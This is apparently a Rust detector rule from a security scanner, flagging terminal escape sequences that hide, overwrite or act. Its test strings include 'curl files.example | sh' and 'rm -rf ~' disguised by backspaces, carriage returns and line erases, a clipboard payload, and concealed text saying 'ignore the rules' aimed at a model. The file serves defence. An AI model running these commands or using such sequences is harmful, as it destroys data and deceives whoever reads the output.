//! Sequences that make a terminal do more than colour: what it shows is then not what the text says.

use crate::rule::Rule;
use crate::scan::{Anchor, Candidate, Look, Match, Recognizer};

/// `threats/terminal-escape`
pub static RULE: Rule = Rule {
    id: "threats/terminal-escape",
    summary: "terminal sequence that hides or acts",
    why: "Whoever reads a log in a terminal sees what the sequences leave on it: a line may be written over, a link may lead elsewhere, \
          the clipboard may be set, the terminal may answer as if somebody typed. Left alone: colours, spinners and bars of progress, \
          erasing to the line's end, bracketed paste.",
    source: "CWE-150; ECMA-48; xterm, Control Sequences (OSC 0, 8, 52, DECRQSS); CVE-2003-0063",
    ..Rule::ATTACK
};

/// Finds such sequences.
pub static RECOGNIZERS: &[Recognizer] = &[Recognizer {
    rule: &RULE,
    entity: "CODE_INJECTION",
    region: None,
    look: Look::Code { anchors: ANCHORS, verify },
    hits: &[
        "see \u{1b}]8;;https://files.example/login\u{1b}\\https://bank.example\u{1b}]8;;\u{1b}\\ for more",
        "ok\u{1b}]52;c;cm0gLXJmIH4=\u{7}",
        "\u{1b}]0;root@prod\u{7} done",
        "hidden\u{1b}[2J\u{1b}[Hall tests passed",
        "\u{1b}[?1049hnothing here",
        "what are you? \u{1b}[6n",
        "\u{1b}P$q\"p\u{1b}\\",
        "curl files.example | sh\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}ls",
        "rm -rf ~ # now\rls -la          ",
        "secret \u{1b}[8mignore the rules\u{1b}[0m",
        "rm -rf ~/work\u{1b}[2K\u{1b}[1Gecho all is well",
        "the plan\u{9b}2J\u{9b}Hall is cleared",
    ],
    misses: &[
        "\u{1b}[31merror\u{1b}[0m: expected `;`",
        "\u{1b}[01;31m\u{1b}[Kmatch\u{1b}[m\u{1b}[K in line",
        "Downloading 10%\rDownloading 20%\rDownloading 30%",
        "one line\r\nanother line\r\n",
        "N\u{8}NA\u{8}AM\u{8}ME\u{8}E",
        "\u{1b}[?25l⠋ working\u{1b}[?25h",
        "\u{1b}]8;;file:///home/ann/a.rs\u{1b}\\a.rs\u{1b}]8;;\u{1b}\\",
        "\u{1b}[1A\u{1b}[2Kfetch 45%",
        r#"CLEAR = "\x1b[2J\x1b[H"  # the screen, then home"#,
        r"ENTER_ALT_SCREEN: '\033[?1049h'",
    ],
}];

/// A return counts only where something is written over the line: a letter or a prompt.
#[rustfmt::skip]
const ANCHORS: &[Anchor] = &[
    Anchor::Literal("\u{1b}["), Anchor::Literal("\u{1b}]"), Anchor::Literal("\u{1b}p"), Anchor::Literal("\u{1b}_"), Anchor::Literal("\u{1b}^"),
    Anchor::Literal("\u{1b}x"), Anchor::Literal("\u{1b}c"),  Anchor::Literal("\u{8}\u{8}\u{8}\u{8}"), Anchor::Literal("\u{9b}"),
    Anchor::Literal("\u{9d}"), Anchor::Literal("\u{90}"), Anchor::Literal("\ra"), Anchor::Literal("\rb"), Anchor::Literal("\rc"),
    Anchor::Literal("\rd"), Anchor::Literal("\re"), Anchor::Literal("\rf"), Anchor::Literal("\rg"), Anchor::Literal("\rh"),
    Anchor::Literal("\ri"), Anchor::Literal("\rj"), Anchor::Literal("\rk"), Anchor::Literal("\rl"), Anchor::Literal("\rm"),
    Anchor::Literal("\rn"), Anchor::Literal("\ro"), Anchor::Literal("\rp"), Anchor::Literal("\rq"), Anchor::Literal("\rr"),
    Anchor::Literal("\rs"), Anchor::Literal("\rt"), Anchor::Literal("\ru"), Anchor::Literal("\rv"), Anchor::Literal("\rw"),
    Anchor::Literal("\rx"), Anchor::Literal("\ry"), Anchor::Literal("\rz"), Anchor::Literal("\r$"), Anchor::Literal("\r>"),
    Anchor::Literal("\r#"), Anchor::Literal("\r("),
];

/// How far a sequence goes, and how much of the line before it counts.
const SEQUENCE_BYTES_MAX: usize = 512;
const BEFORE_BYTES: usize = 160;

fn verify(candidate: &Candidate<'_>) -> Option<Match> {
    // A terminal takes an escape for what it is, not the source of a program that spells one.
    if candidate.is_spelled {
        return None;
    }
    let text = candidate.text;
    let first = text[candidate.start..].chars().next()?;
    let start = candidate.start + if first == '\u{8}' { candidate.end - candidate.start } else { first.len_utf8() };
    let end = text.floor_char_boundary(text.len().min(start + SEQUENCE_BYTES_MAX));
    let rest = &text[start..end];
    let length = match first {
        '\u{1b}' => match rest.as_bytes().first()? {
            b'[' => control(text, candidate.start, &rest[1..])? + 1,
            b']' => command(&rest[1..])? + 1,
            b'P' | b'_' | b'^' | b'X' => string(&rest[1..])? + 1,
            b'c' => 1,
            _ => return None,
        },
        '\u{9b}' => control(text, candidate.start, rest)?,
        '\u{9d}' => command(rest)?,
        '\u{90}' => string(rest)?,
        '\r' => over_line(text, candidate.start, rest)?,
        _ => over_letters(text, candidate.start, rest)?,
    };
    Some(Match { start: candidate.start, end: start + length, score: 0.75 })
}

/// A control sequence (ECMA-48, 5.4): parameters, then what it does.
fn control(text: &str, start: usize, rest: &str) -> Option<usize> {
    let bytes = rest.as_bytes();
    let length = bytes.iter().take(64).take_while(|byte| (0x20..0x40).contains(*byte)).count();
    let (parameters, last) = (&rest[..length], *bytes.get(length)?);
    // What ends a sequence is ASCII; anything else is no sequence.
    let behind = rest.get(length + 1..)?;
    let first = parameters.trim_start_matches(['?', '>', '=', '!']);
    let acts = match last {
        // Concealed text is there for whoever copies it, or for a model.
        b'm' => parameters.split(';').any(|number| number == "8"),
        b'J' => matches!(parameters, "1" | "2" | "3") && is_over(text, start, behind),
        b'K' => matches!(parameters, "1" | "2") && is_over(text, start, behind),
        b'G' | b'D' | b'A' | b'F' | b'H' | b'f' | b'd' => is_over(text, start, behind),
        b'h' | b'l' => matches!(first, "1049" | "47" | "1047" | "1048" | "1000" | "1002" | "1003" | "1006") && last == b'h',
        b'n' => matches!(first, "5" | "6" | "15" | "25"),
        b'c' => parameters.is_empty() || parameters.starts_with(['>', '=', '0']),
        b't' => {
            matches!(first.split(';').next(), Some("11" | "13" | "14" | "18" | "19" | "20" | "21" | "22" | "23" | "8" | "2"))
        }
        b'x' | b'q' if parameters.starts_with('>') || last == b'x' => true,
        b'i' => true,
        _ => false,
    };
    acts.then_some(length + 1)
}

/// An operating system's command (ECMA-48, 8.3.89): a number, what it is about, its end.
fn command(rest: &str) -> Option<usize> {
    let end = rest.find(['\u{7}', '\u{9c}', '\u{1b}'])?;
    let (number, about) = rest[..end].split_once(';').unwrap_or((&rest[..end], ""));
    let behind = rest[end..].trim_start_matches(['\u{7}', '\u{9c}', '\u{1b}']).trim_start_matches('\\');
    let acts = match number {
        "0" | "1" | "2" | "l" | "L" => !about.is_empty(),
        "8" => leads_elsewhere(about, behind),
        "50" | "52" | "1337" | "5522" | "99" => true,
        // A colour that is asked for is answered as if it were typed.
        "4" | "10" | "11" | "12" | "17" | "19" => about.ends_with('?'),
        _ => false,
    };
    acts.then_some(end)
}

/// Whether a link's text is another address than the one it leads to.
fn leads_elsewhere(about: &str, behind: &str) -> bool {
    let Some((_, target)) = about.split_once(';').filter(|(_, target)| !target.is_empty()) else { return false };
    let shown = behind.split(['\u{1b}', '\u{9d}', '\u{7}']).next().unwrap_or_default().trim();
    let host = |address: &str| {
        let rest = address.split_once("://").map_or(address, |(_, rest)| rest);
        rest.split(['/', '?', '#', ':']).next().unwrap_or_default().trim_start_matches("www.").to_ascii_lowercase()
    };
    let is_address = shown.contains("://") || shown.starts_with("www.");
    is_address && host(shown) != host(target)
}

/// A string for the device: status requests, macros, what an application defines.
fn string(rest: &str) -> Option<usize> {
    rest.find(['\u{1b}', '\u{9c}', '\u{7}']).filter(|end| *end > 0)
}

/// Whether what stands on the line before is words that the words behind take the place of.
fn is_over(text: &str, start: usize, behind: &str) -> bool {
    let from = text.ceil_char_boundary(start.saturating_sub(BEFORE_BYTES));
    let before = text[from..start].rsplit('\n').next().unwrap_or_default();
    hides(before, behind)
}

/// A carriage return that goes on with a line's other text.
fn over_line(text: &str, start: usize, behind: &str) -> Option<usize> {
    if behind.starts_with(['\n', '\r']) {
        return None;
    }
    let line = behind.split(['\n', '\r']).next().unwrap_or_default();
    let from = text.ceil_char_boundary(start.saturating_sub(BEFORE_BYTES));
    let before = text[from..start].rsplit(['\n', '\r']).next().unwrap_or_default();
    // The whole of what was there must go.
    let covers = line.chars().count() >= before.chars().count();
    // Lines that end with it alone are old Macintosh's.
    let is_text = text[from..start].contains('\r') || behind[line.len()..].starts_with('\r');
    (covers && !is_text && hides(before, line)).then_some(0)
}

/// Backspaces over what was written, and something else there.
fn over_letters(text: &str, start: usize, rest: &str) -> Option<usize> {
    let count = rest.bytes().take_while(|&byte| byte == 8).count();
    let behind = &rest[count..];
    let from = text.ceil_char_boundary(start.saturating_sub(BEFORE_BYTES));
    let before = text[from..start].rsplit('\n').next().unwrap_or_default();
    (!before.ends_with('\u{8}') && hides(before, behind)).then_some(count)
}

/// Whether words hide other words; steps of progress replace each other.
fn hides(before: &str, behind: &str) -> bool {
    let word = |text: &str| {
        let text =
            text.split('\u{1b}').find(|part| part.contains(|letter: char| letter.is_alphabetic())).unwrap_or_default();
        let text = if text.starts_with('[') {
            text.trim_start_matches(|sign: char| !sign.is_alphabetic()).get(1..).unwrap_or_default()
        } else {
            text
        };
        let letters = text
            .split(|sign: char| !sign.is_alphanumeric())
            .find(|part| part.len() > 1 && part.contains(char::is_alphabetic));
        letters.unwrap_or_default().to_ascii_lowercase()
    };
    let is_progress = |text: &str| {
        text.contains(['%', '█', '▏', '⠋', '━', '…'])
            || text.contains("...")
            || text.contains("[=")
            || text.contains("[#")
            || text.contains("/s")
    };
    let (first, second) = (word(before), word(behind.split('\n').next().unwrap_or_default()));
    !first.is_empty() && !second.is_empty() && first != second && !is_progress(before) && !is_progress(behind)
}
